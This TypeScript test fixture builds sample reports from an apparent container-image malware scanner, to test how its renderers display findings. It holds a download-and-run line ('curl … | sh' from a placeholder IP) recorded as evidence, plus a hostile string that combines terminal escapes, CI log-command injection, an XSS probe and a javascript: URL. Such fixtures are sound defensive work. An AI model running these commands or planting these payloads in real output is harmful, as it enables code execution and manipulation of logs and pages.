/**
 * Three reports as scans make them, for tests of the renderers: an image with a miner, one with a secret, a
 * clean one. Wallet and key are inert: they belong to nobody.
 */
import type { Finding } from '../model/finding.ts';
import type { ImageReport } from '../model/report.ts';

const digest = (digit: string): string => `sha256:${digit.repeat(64)}`;

const base = {
  schemaVersion: 1,
  tool: { name: 'waterguard', version: '0.1.0', ruleset: digest('f') },
  startedAt: '2026-11-23T06:30:00.000Z',
} as const;

export function sampleFinding(changes: Partial<Finding> = {}): Finding {
  return {
    id: '00112233445566778899aabbccddeeff',
    rule: 'miner/xmrig-configuration',
    category: 'cryptomining',
    title: 'XMRig configuration with a valid Monero wallet and a pool',
    severity: 'critical',
    confidence: 0.95,
    state: 'present',
    attack: ['T1496.001'],
    reachable: true,
    evidence: [
      {
        kind: 'file',
        layer: 2,
        path: '/opt/.cache/config.json',
        sha256: 'ab'.repeat(32),
        offset: 118,
        length: 62,
        excerpt: '"url": "stratum+tcp://pool.example.invalid:3333", "user": "44AF…"',
      },
    ],
    source: { author: 'Waterguard', licence: 'Apache-2.0', reference: 'https://xmrig.com/docs/miner/config' },
    ...changes,
  };
}

export const maliciousReport: ImageReport = {
  ...base,
  target: 'oci:/images/ubuntu-tools:latest',
  durationMs: 2345,
  artifact: {
    kind: 'image',
    reference: 'oci:/images/ubuntu-tools:latest',
    digest: digest('1'),
    platform: 'linux/amd64',
    layers: [
      {
        index: 0,
        digest: digest('a'),
        diffId: digest('b'),
        size: 49_500_000,
        createdBy: '/bin/sh -c #(nop) ADD file:8a1f in / ',
      },
      {
        index: 1,
        digest: digest('c'),
        diffId: digest('d'),
        size: 12_400_000,
        createdBy: 'RUN /bin/sh -c apt-get update && apt-get install -y curl ca-certificates # buildkit',
      },
      {
        index: 2,
        digest: digest('e'),
        diffId: digest('f'),
        size: 3_100_000,
        createdBy: 'COPY cache/ /opt/.cache/ # buildkit',
      },
      {
        index: 3,
        digest: digest('2'),
        diffId: digest('3'),
        size: 312,
        createdBy: 'RUN /bin/sh -c rm -f /tmp/.x11/kworker && history -c # buildkit',
      },
    ],
  },
  verdict: 'malicious',
  reasons: [
    'A miner configuration with a valid wallet is started by the entrypoint (/opt/.cache/run.sh).',
    'A packed program with a pool protocol was deleted in layer 3 and is still in layer 2.',
  ],
  score: 97,
  categories: ['cryptomining', 'backdoor', 'embedded-secret'],
  findings: [
    sampleFinding({
      id: 'aa112233445566778899aabbccddeeff',
      rule: 'elf/packed-upx',
      category: 'other',
      title: 'Program packed with UPX',
      severity: 'low',
      confidence: 0.5,
      reachable: false,
      state: 'deleted',
      attack: ['T1027.002'],
      source: {},
    }),
    sampleFinding(),
    sampleFinding({
      id: 'bb112233445566778899aabbccddeeff',
      rule: 'elf/randomx-miner',
      title: 'Program with the RandomX mining algorithm and a pool protocol',
      severity: 'high',
      confidence: 0.8,
      state: 'deleted',
      reachable: false,
      evidence: [
        {
          kind: 'file',
          layer: 2,
          path: '/tmp/.x11/kworker',
          sha256: 'cd'.repeat(32),
          offset: 1_204_224,
          length: 8,
          excerpt: '7 of 7 RandomX constants, and words of a pool protocol',
        },
      ],
      source: { author: 'Waterguard', licence: 'Apache-2.0' },
    }),
    sampleFinding({
      id: 'cc112233445566778899aabbccddeeff',
      rule: 'configuration/download-and-run',
      category: 'backdoor',
      title: 'Build step downloads a script and runs it',
      severity: 'medium',
      confidence: 0.55,
      reachable: false,
      attack: ['T1105', 'T1059.004'],
      evidence: [
        { kind: 'history', layer: 1, path: 'history[4]', excerpt: 'curl -fsSL http://192.0.2.7/i.sh | sh' },
      ],
    }),
    ...[1, 2, 3, 4, 5, 6].map((number) =>
      sampleFinding({
        id: `d${number}112233445566778899aabbccddeeff`,
        rule: 'secrets/private-key',
        category: 'embedded-secret',
        title: 'Private key',
        severity: 'high',
        confidence: 0.9,
        state: number === 2 ? 'shadowed' : 'present',
        reachable: false,
        attack: ['T1552.004'],
        evidence: [
          {
            kind: 'file',
            layer: 1,
            path: `/root/.ssh/id_ed25519_${number}`,
            offset: 0,
            length: 399,
            excerpt: '-----BEGIN OPENSSH PRIVATE KEY----- (399 bytes)',
          },
        ],
      }),
    ),
    sampleFinding({
      id: 'ee112233445566778899aabbccddeeff',
      rule: 'names/namespace',
      category: 'typosquat',
      title: 'Name of an official image under an unknown namespace',
      severity: 'medium',
      confidence: 0.5,
      reachable: false,
      attack: ['T1036.005'],
      evidence: [{ kind: 'name', path: 'reference', excerpt: 'ubuntu-tools' }],
      ignored: { reason: 'our own build', expires: '2027-01-01' },
    }),
  ],
  indicators: [
    { type: 'pool', value: 'pool.example.invalid:3333', context: 'stratum+tcp, /opt/.cache/config.json' },
    { type: 'wallet', value: `44${'A'.repeat(93)}`, context: 'monero, /opt/.cache/config.json' },
    { type: 'ip', value: '192.0.2.7', context: 'history[4]' },
  ],
  coverage: {
    layers: 4,
    files: 10_047,
    bytes: 527_000_000,
    cachedLayers: 1,
    skipped: [
      { path: '/opt/backup.zip', reason: 'encrypted', layer: 2 },
      { path: '/dev/sda', reason: 'device', layer: 0 },
      { path: '/dev/sdb', reason: 'device', layer: 0 },
    ],
    errors: [],
  },
};

export const riskyReport: ImageReport = {
  ...base,
  target: 'registry.example.invalid/team/api:1.4',
  durationMs: 812,
  artifact: {
    kind: 'image',
    reference: 'registry.example.invalid/team/api:1.4',
    digest: digest('4'),
    platform: 'linux/arm64/v8',
    layers: [
      {
        index: 0,
        digest: digest('5'),
        diffId: digest('6'),
        size: 30_000_000,
        createdBy: 'ENV AWS_ACCESS_KEY_ID=AKIA…',
      },
    ],
  },
  verdict: 'risky',
  reasons: ['An AWS access key is in the environment of the image.'],
  score: 24,
  categories: ['embedded-secret'],
  findings: [
    sampleFinding({
      id: 'ff112233445566778899aabbccddeeff',
      rule: 'secrets/aws-access-key',
      category: 'embedded-secret',
      title: 'AWS access key',
      severity: 'medium',
      confidence: 0.9,
      reachable: false,
      attack: ['T1552.007'],
      evidence: [{ kind: 'config', path: 'Env.AWS_ACCESS_KEY_ID', excerpt: 'AKIA… (20 characters)' }],
    }),
  ],
  indicators: [],
  coverage: {
    layers: 1,
    files: 800,
    bytes: 90_000_000,
    cachedLayers: 0,
    skipped: [],
    errors: [
      { where: 'layer 0', code: 'truncated', message: 'the layer ends after 12 of 90 MB; pull it again' },
    ],
  },
};

export const cleanReport: ImageReport = {
  ...base,
  target: 'docker.io/library/nginx:1',
  durationMs: 950,
  artifact: {
    kind: 'image',
    reference: 'docker.io/library/nginx:1',
    digest: digest('7'),
    platform: 'linux/amd64',
    layers: [
      {
        index: 0,
        digest: digest('8'),
        diffId: digest('9'),
        size: 27_000_000,
        createdBy: 'ADD rootfs.tar.xz /',
      },
    ],
  },
  verdict: 'clean',
  reasons: ['Nothing of medium severity or more was found, and everything was seen.'],
  score: 0,
  categories: [],
  findings: [],
  indicators: [],
  coverage: { layers: 1, files: 3000, bytes: 140_000_000, cachedLayers: 1, skipped: [], errors: [] },
};

/** Every string that an attacker chooses, at its worst, past a producer that forgot to make it printable. */
export function hostileReport(): ImageReport {
  const nasty =
    '\x1b[2J\n::error file=x::owned\r##vso[task.setvariable]x ##[warning] \u202e<script>alert(1)</script>"\'`';
  const [layer] = cleanReport.artifact.layers;
  return {
    ...cleanReport,
    target: nasty,
    verdict: 'suspicious',
    reasons: [nasty],
    artifact: {
      ...cleanReport.artifact,
      reference: nasty,
      layers: layer === undefined ? [] : [{ ...layer, createdBy: nasty }],
    },
    findings: [
      sampleFinding({
        rule: nasty,
        title: nasty,
        evidence: [{ kind: 'file', layer: 0, path: `/${nasty}/../x`, offset: 0, length: 1, excerpt: nasty }],
        source: { author: nasty, licence: nasty, reference: `javascript:${nasty}` },
        ignored: undefined,
      }),
      sampleFinding({ evidence: [{ kind: 'history', layer: 0, path: nasty, excerpt: nasty }] }),
    ],
    indicators: [{ type: 'url', value: nasty, context: nasty }],
    coverage: {
      ...cleanReport.coverage,
      skipped: [{ path: `/${nasty}`, reason: 'size-limit', detail: nasty }],
      errors: [{ where: nasty, code: nasty, message: nasty }],
    },
  };
}
